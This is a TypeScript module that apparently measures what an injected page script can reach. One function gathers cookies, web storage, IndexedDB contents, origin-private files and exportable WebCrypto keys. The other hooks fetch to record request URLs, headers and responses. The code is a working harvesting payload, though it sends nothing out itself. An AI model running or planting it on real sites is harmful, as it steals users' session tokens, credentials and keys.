/** What a script in a page got hold of. */
export interface Loot {
  /** Everything it read, as text; bytes as base64. */
  readonly text: string
  /** Private and secret keys of WebCrypto that it met, and whether it could export them. */
  readonly keys: readonly { readonly type: string; readonly exported: boolean }[]
}

/** Runs in the page: reads everything that a script of its origin can reach without anybody's touch. */
export async function takeEverything(): Promise<Loot> {
  const texts: string[] = [document.cookie, JSON.stringify({ ...localStorage, ...sessionStorage })]
  const keys: { type: string; exported: boolean }[] = []

  async function keep(value: unknown): Promise<void> {
    if (value instanceof CryptoKey) {
      if (value.type === 'public') return
      const formats = ['jwk', 'pkcs8', 'raw'] as const
      const tries = await Promise.allSettled(formats.map((form) => crypto.subtle.exportKey(form, value)))
      keys.push({ type: value.type, exported: tries.some(({ status }) => status === 'fulfilled') })
    } else if (value instanceof Blob) await keep(await value.arrayBuffer())
    else if (value instanceof ArrayBuffer) await keep(new Uint8Array(value))
    else if (ArrayBuffer.isView(value)) {
      const bytes = new Uint8Array(value.buffer, value.byteOffset, value.byteLength)
      texts.push(btoa(Array.from(bytes, (byte) => String.fromCharCode(byte)).join('')))
      texts.push(new TextDecoder().decode(bytes))
    } else if (typeof value === 'object' && value !== null) {
      for (const [name, part] of Object.entries(value)) {
        texts.push(name)
        await keep(part)
      }
    } else texts.push(String(value))
  }

  const settled = <T>(request: IDBRequest<T>) =>
    new Promise<T>((resolve, reject) => {
      request.onsuccess = () => resolve(request.result)
      request.onerror = () => reject(request.error)
    })
  for (const { name = '' } of await indexedDB.databases()) {
    const database = await settled(indexedDB.open(name))
    for (const store of database.objectStoreNames) {
      const objects = database.transaction(store).objectStore(store)
      const [names, values] = await Promise.all([settled(objects.getAllKeys()), settled(objects.getAll())])
      await keep([names, values])
    }
    database.close()
  }

  async function readFolder(folder: FileSystemDirectoryHandle): Promise<void> {
    for await (const entry of folder.values()) {
      texts.push(entry.name)
      if (entry.kind === 'file') await keep(await entry.getFile())
      else await readFolder(entry)
    }
  }
  await readFolder(await navigator.storage.getDirectory())
  return { text: texts.join('\n'), keys }
}

/** Runs in the page before its own scripts: notes what goes out and what comes back. */
export function noteRequests(): void {
  const noted: { url: string; headers: Record<string, string>; answer: string }[] = []
  const send = globalThis.fetch.bind(globalThis)
  globalThis.fetch = async (...request) => {
    const { url, headers } = new Request(...request)
    const response = await send(...request)
    noted.push({ url, headers: Object.fromEntries(headers), answer: await response.clone().text() })
    return response
  }
  Object.assign(globalThis, { noted })
}
